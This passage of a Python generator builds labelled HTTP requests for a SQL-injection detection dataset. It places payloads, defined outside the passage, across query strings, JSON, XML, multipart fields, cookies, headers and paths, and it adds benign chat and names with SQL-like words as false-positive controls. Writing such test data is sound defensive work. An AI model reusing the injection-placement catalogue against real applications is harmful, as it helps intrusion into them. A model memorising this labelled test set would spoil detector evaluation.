    if place in ("form", "form-name", "raw-body:form"):
        if place == "form":
            body = urllib.parse.urlencode([("csrf_token", b.tok(32)), ("q", p)])
        elif place == "form-name":
            body = urllib.parse.urlencode([("csrf_token", b.tok(32)), (p, "on")])
        else:
            body = p
        h = {**b.browser("text/html,application/xhtml+xml"), "Content-Type": "application/x-www-form-urlencoded",
             "Origin": "https://app.example.com"}
        return {"method": "POST", "uri": "/admin/users/search", "body": body, "headers": h}
    if place.startswith("json") or place == "raw-body:json-string":
        doc: Any
        if place == "json":
            doc = {"name": "Ann Lee", "email": "ann@example.org", "bio": v}
        elif place == "json-depth2":
            doc = {"name": "Ann Lee", "profile": {"title": v, "department": "Ops"}}
        elif place == "json-depth3":
            doc = {"name": "Ann Lee", "profile": {"address": {"city": v, "country": "IE"}}}
        elif place == "json-depth4":
            doc = {"org": {"team": {"lead": {"name": v, "id": 7}}}}
        elif place == "json-array":
            doc = {"name": "Ann Lee", "tags": ["ops", v, "oncall"]}
        elif place == "json-array-nested":
            doc = {"filters": [{"field": "status", "value": "active"}, {"field": "name", "value": v}]}
        elif place == "json-key":
            doc = {"name": "Ann Lee", p: "x"}
        elif place == "json-key-nested":
            doc = {"name": "Ann Lee", "settings": {"columns": {p: True}}}
        else:
            doc = p
        uri = "/api/users/42" if i % 5 == 0 else "/api/users"
        method = "PATCH" if i % 5 == 0 else "POST"
        return {"method": method, "uri": uri, "body": json.dumps(doc, ensure_ascii=False),
                "headers": {**b.browser(), "Content-Type": "application/json"}}
    if place in ("xml", "xml-attr"):
        if place == "xml":
            body = f'<?xml version="1.0" encoding="UTF-8"?><user><name>Ann Lee</name><bio>{xml_text(p)}</bio></user>'
        else:
            body = f'<?xml version="1.0" encoding="UTF-8"?><user role="{xml_attr(p)}"><name>Ann Lee</name></user>'
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": {**b.browser(), "Content-Type": "application/xml"}}
    if place.startswith("multipart"):
        csrf = ("csrf_token", b.tok(32), None)
        if place == "multipart-field":
            body, ctype = b.multipart([csrf, ("note", p, None), ("file", "id,name\n1,Ann\n", "users.csv")])
            uri = "/admin/users/import"
        elif place == "multipart-name":
            body, ctype = b.multipart([csrf, (p, "1", None)])
            uri = "/admin/users/import"
        else:
            body, ctype = b.multipart([csrf, ("avatar", "\x89PNG\r\n\x1a\nIHDR", p)])
            uri = "/me/avatar"
        h = {**b.browser("text/html,application/xhtml+xml"), "Content-Type": ctype}
        return {"method": "POST", "uri": uri, "body": body, "headers": h}
    if place == "cookie":
        return {"method": "GET", "uri": "/api/users?page=1", "body": "",
                "headers": b.browser(cookie_extra=f"; last_search={cookie_value(p)}")}
    if place == "cookie-name":
        return {"method": "GET", "uri": "/api/users?page=1", "body": "",
                "headers": b.browser(cookie_extra=f"; {p}=1")}
    if place.startswith("header:"):
        name = place.split(":", 1)[1]
        h = b.browser()
        if name == "Referer":
            h[name] = "https://app.example.com/users?q=" + urllib.parse.quote(p, safe="'()*!:,@$/=")
        elif name == "X-Forwarded-For":
            h[name] = f"{p}, 198.51.100.7"
        else:
            h[name] = p
        return {"method": "GET", "uri": "/api/users?page=2", "body": "", "headers": h}
    if place == "path":
        return {"method": "GET", "uri": f"/api/users/{seg(p)}/profile", "body": "", "headers": b.browser()}
    if place == "path-matrix":
        return {"method": "GET", "uri": f"/api/users;filter={seg(p).replace(';', '%3B')}", "body": "",
                "headers": b.browser()}
    if place == "path-file":
        return {"method": "GET", "uri": f"/api/files/{seg(p)}", "body": "", "headers": b.browser()}
    if place == "raw-body:text-plain":
        return {"method": "POST", "uri": "/api/users", "body": p,
                "headers": {**b.browser(), "Content-Type": "text/plain; charset=utf-8"}}
    raise ValueError(place)


def rs_request(b: Builder, place: str, p: str, sub: str, i: int) -> dict[str, Any]:
    path = RS_PATHS[i % len(RS_PATHS)]
    name = RS_NAMES[i % len(RS_NAMES)]
    h = b.rs_headers()
    v = json_value(sub, p)
    if place == "rs-query":
        return {"method": "GET", "uri": f"{path}?{name}={q(p)}", "body": "", "headers": h}
    if place == "rs-param-name":
        return {"method": "GET", "uri": f"{path}?{q(p)}=1", "body": "", "headers": h}
    if place == "rs-query-name-only":
        return {"method": "GET", "uri": f"{path}?{q(p)}", "body": "", "headers": h}
    if place in ("rs-form", "rs-form-name", "rs-raw-form"):
        body = {"rs-form": f"{name}={q(p)}", "rs-form-name": f"{q(p)}=1", "rs-raw-form": p}[place]
        return {"method": "POST", "uri": path, "body": body,
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place.startswith("rs-json") or place == "rs-raw-json":
        doc: Any = {"rs-json": {name: v}, "rs-json-nested": {"data": {"items": {name: v}}},
                    "rs-json-array": {name: ["a", v]}, "rs-json-key": {p: "1"},
                    "rs-raw-json": v}[place]
        return {"method": "POST", "uri": path, "body": json.dumps(doc, ensure_ascii=False),
                "headers": {**h, "Content-Type": "application/json"}}
    if place == "rs-xml":
        return {"method": "POST", "uri": path, "body": f"<?xml version=\"1.0\"?><root><{name}>{xml_text(p)}</{name}>"
                "</root>", "headers": {**h, "Content-Type": "text/xml"}}
    if place == "rs-xml-attr":
        return {"method": "POST", "uri": path, "body": f"<?xml version=\"1.0\"?><root {name}=\"{xml_attr(p)}\"/>",
                "headers": {**h, "Content-Type": "application/xml"}}
    if place == "rs-raw-text":
        return {"method": "POST", "uri": path, "body": p, "headers": {**h, "Content-Type": "text/plain"}}
    if place in ("rs-multipart-field", "rs-multipart-filename"):
        part = (name, p, None) if place == "rs-multipart-field" else ("file", "hello", p)
        body, ctype = b.multipart([part])
        return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": ctype}}
    if place.startswith("rs-header:"):
        hn = place.split(":", 1)[1]
        hn = "X-Test-Header" if hn == "X-Custom" else hn
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, hn: p}}
    if place == "rs-cookie":
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, "Cookie": f"{name}={cookie_value(p)}"}}
    if place == "rs-cookie-name":
        return {"method": "GET", "uri": path, "body": "", "headers": {**h, "Cookie": f"{p}=1"}}
    if place == "rs-path":
        base = path.rstrip("/")
        return {"method": "GET", "uri": f"{base}/{seg(p)}", "body": "", "headers": h}
    raise ValueError(place)


def choose(order: list[str], start: int, p: str) -> str:
    """The first place of the rotation from `start` where the payload fits."""
    for k in range(len(order)):
        place = order[(start + k) % len(order)]
        if fits(place, p):
            return place
    raise ValueError(p)


def attacks() -> Iterator[dict[str, Any]]:
    b = Builder()
    n = 0
    for t, (rule, sub, entries) in enumerate(TITLES):
        real_order, rs_order = PLACES.get(rule, (REAL, RS))
        for i, e in enumerate(entries):
            if isinstance(e, tuple):
                p, real_place, rs_place = e
            else:
                p = e
                real_place = choose(real_order, t * 7 + i, p)
                rs_place = choose(rs_order, t * 3 + i * 2, p)
            for place, make in ((real_place, real_request), (rs_place, rs_request)):
                n += 1
                yield {**make(b, place, p, sub, n), "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub,
                       "placement": place.replace("rs-query-name-only", "rs-param-name").replace(
                           "rs-raw-json", "rs-json"), "payload": p}


# ---- benign: the same words, innocently, as real users type them ------------------------------------------------

CHAT = [
    "can someone select the venue for the offsite? union square or the docks",
    "I'll drop the slides in #general after lunch",
    "sleep schedule is wrecked after the red-eye, benchmark results tomorrow",
    "order by Friday please, the vendor closes the books on the 30th",
    "having trouble with the VPN again, anyone else?",
    "update: the release is out, changelog in the wiki",
    "insert the new hire's name into the onboarding doc",
    "delete the old drafts from the shared folder when you get a chance",
    "the merge request for the billing page needs one more review",
    "match against Arsenal is on tonight, who's watching",
    "we need to execute the plan immediately, the client is waiting",
    "the char limit on that field is 255, we hit it with long titles",
    "brand color is #1e90ff, the old one was #ff6347",
    "max int on the old counter was 2147483647, it overflowed last year",
    "waiting for the delay notice from the airline",
    "shutdown of the old office network is on Saturday",
    "pg_dump ran fine overnight, backups are in the bucket",
    "the Postgres upgrade to 16 went smoothly",
    "MySQL 8 deprecation of the query cache bit us, fixed now",
    "please don't put user input in raw SQL, use the ORM's parameters",
    "the report query uses `WHERE created_at > ?` with a bound parameter",
    "we use `SELECT count(*)` on the replica only",
    "Mongo's aggregation pipeline made this much easier",
    "I'm 5'11\" and the standing desk goes high enough",
    "Dinner at O'Malley's at 7? Seán and D'Arcy are in",
    "it's a 2-for-1 deal -- only today",
    "rock 'n' roll night at the pub, bring earplugs",
    "\"Quick question\" -- how long is the lunch break?",
    "Tickets: $25 (members) / $35 (guests)",
    "Meeting moved: 3pm -> 4pm, same room",
    "the `users` table has an index on email now",
    "new hire starts Monday; desk 14, laptop ready",
    "sum of the invoices is 1,234.56 EUR, VAT included",
    "the union rep will join the all-hands",
    "we selected three candidates for the final round",
    "dropping off the keys at reception",
    "having a bad day, the build keeps failing on lint",
    "grouped by region, the numbers look fine",
    "the exec team reviews the roadmap Thursday",
    "our benchmark: p99 latency 42 ms at 2k rps",
    "I'll sleep on it and reply tomorrow",
    "can we alter the schedule so standup is at 9:30?",
    "the waitlist for the conference is long",
    "the hex dump shows 0x1F in the header, weird",
    "ASCII art in the README is cute but breaks on mobile",
    "concat the first and last name in the export please",
    "the substring search is case sensitive, heads up",
    "version 2.3.1 is tagged, release notes attached",
    "the database migration took 4 minutes in staging",
    "information about the offsite is in the schema doc, I mean the agenda doc",
    "master branch is renamed to main next week",
    "tempdb on the old SQL Server box is full again, DBA is on it",
    "hey, 1 or 2 people can join the call, not more",
    "between you and me, the demo went great",
    "like I said, the deadline is firm",
    "not null fields in the form are marked with an asterisk",
    "the case study is due Friday, then the review",
    "if the build is green, deploy; if not, ping me",
    "I'm in -- count me in for the hike",
    "Let's grab coffee @ 10:30 near the union station",
    "pricing: 10% off for annual plans, 20% for nonprofits",
    "the semicolon in that CSV is the delimiter; don't change it",
    "comments in the SQL file start with -- in our style guide",
    "press Ctrl+/ to comment a line in the editor",
    "C# and F# teams share the build agents",
    "the wiki page title is 'Getting started' with quotes",
    "my name is spelled D'Souza, with the apostrophe",
    "the hash is #a1b2c3 in the design tokens",
    "use backticks for inline code in Slack, like `npm ci`",
    "the ORDER BY on created_at is why the page is slow",
    "the admin panel shows the wrong total, select 'all' to see it",
    "our sleep study app needs the benchmark data by Q3",
    "try 'Update profile' in the menu, then 'Save'",
    "the 'drop table' joke in the talk got a laugh",
    "who's doing the trivia night, theme is 'SQL & Sandwiches'",
    "the JSON looks like {\"status\": \"ok\"} when healthy",
    "send me the regex you used, ^[a-z]+$ works for me",
    "1 + 1 = 2, even on Mondays",
    "we hit 100% uptime in May!",
    "the coupon code SUMMER-2024 gives 15% off",
    "the conference room on 3rd floor is booked 2-4",
    "x and y axes are swapped in the chart",
    "the math quiz asked if 7 > 5 or not, easy",
    "O'Reilly books are on the third shelf",
    "Zoë's farewell is Friday, card is at reception",
    "exec summary: revenue up, churn down",
    "please review the PR: it renames `getUser` to `fetchUser`",
    "the cron runs at 0 3 * * * on the worker",
    "delete-me branch can go, it's merged",
    "the test IDs are like 0000012345 in the legacy system",
    "Question: is the login page broken for you?",
    "it's a match! the new hire knows both Go and Rust",
    "Greetings from Lisboa, the café here is great",
    "replace the old logo with the new SVG",
    "we'll truncate the logs older than 90 days per policy",
    "load data from the CSV into the sheet, then share",
    "the declaration form needs a signature",
    "pick a procedure for the incident review, blameless please",
    "the outfile of the script is results.txt",
    "my sleep tracker says 6 hours, ugh",
]

NAMES = ["Ann O'Neil", "Seán Ó Briain", "D'Arcy Smith", "Mary-Jane O'Connor", "Zoë Saldaña", "Jean-Luc Picard",
         "Renée Fleming", "José Álvarez", "Björk Guðmundsdóttir", "Ngozi Okonjo-Iweala", "Li Wei", "Anaïs Nin",
         "Conan O'Brien", "Dwayne \"The Rock\" Johnson", "Patrick O'Hara Jr.", "Union Pacific Rail", "Select Comfort",
         "Sleep Number", "Drop Inc.", "Merge Records", "Match Group", "Order of St. John", "Benchmark Capital",
         "Case Western", "Update Labs"]
ADDRESSES = ["12 O'Connell St, Dublin", "1 Union Square, San Francisco", "221B Baker St, London",
             "Unit 4, 5-7 Select Rd", "Apt #12, 34 Main St", "PO Box 2147483647", "Rue de l'Église 3, Paris",
             "100 Having Lane", "Merge Park, Building C", "Calle 5 #10-20, Bogotá"]
SEARCHES = ["union station", "select committee", "drop-off point", "sleep study", "benchmark report 2024",
            "order by date", "having trouble logging in", "delete account?", "insert coin", "update profile picture",
            "O'Reilly", "rock & roll", "1-800-555-0199", "C# developer", "#general", "50% off", "AT&T",
            "where is the office", "shutdown procedure for servers", "merge request", "match against Arsenal",
            "execute immediately", "char limit", "hex color #ff0000", "waitfor", "Rosie O'Donnell",
            "users in sales or marketing", "between 10 and 20", "not like the others", "is null a value?",
            "case study", "if else statement", "like button", "table tennis club", "exec assistant",
            "master's degree", "information schema docs", "tempdb", "alter ego", "load data",
            "0x1F600 emoji", "2147483647", "4 o'clock", "Q&A", "\"exact phrase\"", "user@example.com",
            "dev -- ops", "3 > 2", "price < 100", "tom & jerry", "Ma'am", "it's", "R&D", "sales-2024",
            "the 'new' dashboard"]
FILENAMES = ["Q3 report (final).xlsx", "O'Brien_resume.pdf", "team photo #2.jpg", "union-contract-2024.pdf",
             "select_menu.png", "drop_zone.svg", "sleep-tracker.csv", "benchmark results.ods",
             "Update notes v2.1.docx", "IMG_2147.HEIC", "invoice 50% deposit.pdf", "meeting -- notes.txt",
             "R&D budget.xlsx", "café menu.pdf", "D'Arcy avatar.png"]
HEADER_REFERERS = ["https://www.google.com/search?q=union+square+hotels", "https://app.example.com/users?q=O%27Neil",
                   "https://news.example.org/2024/05/select-committee-report",
                   "https://app.example.com/admin/users?order=name&dir=asc",
                   "https://duckduckgo.com/?q=sleep+benchmark", "https://app.example.com/search?q=drop-off+point",
                   "https://t.co/AbC123xyz", "https://app.example.com/reports?from=2024-01-01&to=2024-03-31"]
EXTRA_UAS = [
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "okhttp/4.12.0", "python-requests/2.32.3", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
]
SLUGS = ["ann-oneil", "42", "jean-luc", "union-team", "select-group", "sleep-lab", "o'brien", "zoë",
         "drop-off", "2147483647", "user_1001", "merge-bot", "a.b.c", "report-2024-q3", "me@example.org"]
FILTER_NAMES = ["filter[status]", "filter[role][]", "sort[created_at]", "fields[user]", "page[size]",
                "include[]", "q[name_cont]", "where[team]", "order-by", "select", "having_pets", "union_member"]


def benign() -> Iterator[dict[str, Any]]:
    b = Builder()
    b.rng.seed(511511)
    n = yield from chat_and_bio(CHAT, f"{NAME}")
    plain = CHAT[:60]
    for kind, values in (("search", SEARCHES), ("name", NAMES), ("address", ADDRESSES)):
        for i, v in enumerate(values):
            reqs = [real_request(b, "form", v, "benign", i), real_request(b, "query", v, "benign", i + 1)]
            if kind != "search":
                reqs.append(real_request(b, ["json-depth2", "json-depth3", "json-depth4"][i % 3], v, "benign", i + 1))
            n = yield from numbered(reqs, f"{NAME}-{kind}", n, "mixed")
    for i, text in enumerate(plain):
        place = ["json-array", "json-array-nested", "xml", "multipart-field", "raw-body:json-string",
                 "json-depth2"][i % 6]
        n = yield from numbered([real_request(b, place, text, "benign", i + 1)], f"{NAME}-prose", n, place)
    for i, text in enumerate(SEARCHES + NAMES):
        place = ["cookie", "xml-attr", "header:X-Api-Filter", "raw-body:text-plain"][i % 4]
        n = yield from numbered([real_request(b, place, text, "benign", i + 1)], f"{NAME}-field", n, place)
    for i, fn in enumerate(FILENAMES):
        n = yield from numbered([real_request(b, "multipart-filename", fn, "benign", i)], f"{NAME}-upload", n,
                                "multipart-filename")
    for i, ref in enumerate(HEADER_REFERERS):
        h = b.browser()
        h["Referer"] = ref
        h["User-Agent"] = EXTRA_UAS[i % len(EXTRA_UAS)]
        n = yield from numbered([{"method": "GET", "uri": "/api/users?page=1", "body": "", "headers": h}],
                                f"{NAME}-header", n, "header")
    for i, slug in enumerate(SLUGS):
        place = ["path", "path-file", "path-matrix"][i % 3]
        n = yield from numbered([real_request(b, place, slug, "benign", i)], f"{NAME}-path", n, place)
    for i, fname in enumerate(FILTER_NAMES):
        reqs = [{"method": "GET", "uri": f"/api/users?{q(fname)}={q(['active', 'admin', 'desc', '50'][i % 4])}",
                 "body": "", "headers": b.browser()},
                real_request(b, "json-key-nested", fname, "benign", i + 1),
                real_request(b, "form-name", fname, "benign", i)]
        n = yield from numbered(reqs, f"{NAME}-paramname", n, "param-name")
    # a regression suite's negative tests on its own paths, for comparison with its positive ones
    words = ["hello world", "union station", "O'Neil", "select a size", "sleep well", "drop by", "2024-06-01",
             "a & b", "50%", "#tag", "x=1", "rock 'n' roll", "match day", "Zoë"]
    for i, w in enumerate(words):
        place = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:Referer", "rs-cookie", "rs-multipart-field"][
            i % 7]
        n = yield from numbered([rs_request(b, place, w, "benign", i)], f"{NAME}-rs", n, place)
    # more chat, in the admin panel's search and as profile titles
    for i, text in enumerate(CHAT[60:]):
        reqs = [real_request(b, "form", text, "benign", i), real_request(b, "json-depth2", text, "benign", i + 1)]
        n = yield from numbered(reqs, f"{NAME}-note", n, "mixed")
    # and once more each in another place a user's words reach
    for i, text in enumerate(CHAT):
        place = ["query", "json-depth3", "xml", "multipart-field", "json-array-nested"][i % 5]
        n = yield from numbered([real_request(b, place, text, "benign", i)], f"{NAME}-text", n, place)
    for i, text in enumerate(SEARCHES + NAMES):
        place = ["json-depth4", "multipart-field", "xml", "json"][i % 4]
        n = yield from numbered([real_request(b, place, text, "benign", i)], f"{NAME}-entry", n, place)


if __name__ == "__main__":
    print_records(attacks(), benign())
